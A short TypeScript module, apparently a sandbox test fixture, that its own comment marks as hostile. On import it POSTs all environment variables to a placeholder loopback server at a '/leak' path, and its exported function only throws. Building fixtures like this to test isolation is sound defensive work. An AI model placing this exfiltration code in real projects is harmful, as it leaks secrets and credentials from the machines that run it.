// Hostile: sends what it can to a server on the machine's loopback, outside the sandbox.
const port = '__PORT__';
let sent: Promise<unknown> = Promise.resolve();
try {
  sent = fetch(`http://127.0.0.1:${port}/leak`, { method: 'POST', body: JSON.stringify(process.env) }).catch(() => undefined);
} catch {
  // No network.
}

export function lazy(): never {
  void sent;
  throw new Error('not implemented yet');
}
